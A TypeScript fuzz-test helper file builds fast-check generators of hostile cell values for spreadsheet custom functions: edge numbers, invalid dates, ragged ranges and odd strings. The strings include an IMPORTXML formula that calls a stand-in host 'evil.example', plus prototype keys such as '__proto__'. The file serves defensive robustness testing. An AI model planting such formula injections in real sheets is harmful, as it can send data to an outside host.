/**
 * Generators of hostile input for the fuzz tests: what a sheet (or a script calling the
 * functions) can hand over, and more. Everything is drawn from fast-check arbitraries, so a
 * run is reproduced by its seed.
 */
import fc from 'fast-check';

const LONG_TEXT = 'L'.repeat(60_000);

/** Numbers at the edges: ±0, the extremes of doubles, denormals, serial days, YYYYMMDD. */
export const edgeNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(0, -0, 1, -1, 0.5, 1e308, -1e308, Number.MAX_VALUE, -Number.MAX_VALUE, 5e-324, -5e-324, 1e-300, 1e300, 8.64e15, 2 ** 53),
  fc.constantFrom(NaN, Infinity, -Infinity),
  fc.double({ noNaN: false }),
  fc.double({ min: -2, max: 3, noNaN: true }),
  fc.integer({ min: -1000, max: 100_000 }),
  fc.integer({ min: 1, max: 99_999 }), // serial days
  fc.integer({ min: 19_000_101, max: 21_001_231 }), // YYYYMMDD typed as a number
);

/** Text that looks like a number, a date, a formula, a choice word, or nothing in particular. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '', ' ', '1,200', '$1.2M', '15 %', '(12)', '1e5', '-0', '+1', '1,5', '€ 40', '0x10', 'NaN', 'Infinity', '-Infinity', '1E309',
    '2026-07-02', '2026-13-45', '3/4', '20260101', '12:30', '1 Jan 2026', '2026-07-02T09:30', '46205', '1E300',
    '=1+1', '=IMPORTXML("https://evil.example","//a")', "'quoted", '@everyone', '<b>x</b>', 'TRUE', 'false', 'yes', 'done', 'not done', '✓',
    'increase', 'decrease', 'above', 'below', 'range', 'milestone', 'track', 'auto', 'sum', 'avg', 'count', 'distinct', 'MTD', 'QTD',
    'previous month', '7D', 'nonsense', 'undefined', 'null', '__proto__', 'constructor',
  ),
  fc.string({ maxLength: 12 }),
  fc.string({ unit: 'grapheme', maxLength: 8 }),
  fc.constant(LONG_TEXT),
);

/** Dates: ordinary, at the limits of the Date range, and invalid. */
export const hostileDate: fc.Arbitrary<Date> = fc.oneof(
  fc.date({ min: new Date('1899-12-30T00:00:00Z'), max: new Date('2200-01-01T00:00:00Z'), noInvalidDate: true }),
  fc.constantFrom(new Date(NaN), new Date(8.64e15), new Date(-8.64e15), new Date(0)),
  fc.date(),
);

/** One cell's value as a custom function may receive it. */
export const hostileScalar: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: edgeNumber },
  { weight: 4, arbitrary: hostileText },
  { weight: 2, arbitrary: hostileDate },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 2, arbitrary: fc.constantFrom(null, undefined, '') },
);

/** A 2-D range: rectangular mostly, ragged sometimes, and the degenerate [] and [[]]. */
export const hostileRange: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 6, arbitrary: fc.integer({ min: 1, max: 4 }).chain((cols) => fc.array(fc.array(hostileScalar, { minLength: cols, maxLength: cols }), { minLength: 1, maxLength: 5 })) },
  { weight: 1, arbitrary: fc.array(fc.array(hostileScalar, { minLength: 0, maxLength: 3 }), { minLength: 1, maxLength: 4 }) },
  { weight: 1, arbitrary: fc.array(hostileScalar, { maxLength: 4 }) },
  { weight: 1, arbitrary: fc.constantFrom([], [[]]) },
);

/** An argument: a single value or a range. */
export const hostileArgument: fc.Arbitrary<unknown> = fc.oneof({ weight: 3, arbitrary: hostileScalar }, { weight: 2, arbitrary: hostileRange });

/** Messages a user must never see: raw JavaScript errors and non-numbers on screen. */
export const RAW_ERROR =
  /TypeError|ReferenceError|RangeError|SyntaxError|is not a function|is not defined|Cannot read|Cannot convert|of undefined|of null|Invalid time value|Invalid array length|Maximum call stack|fault in Aligned|\bNaN\b|\bundefined\b|Infinity|\[object /;
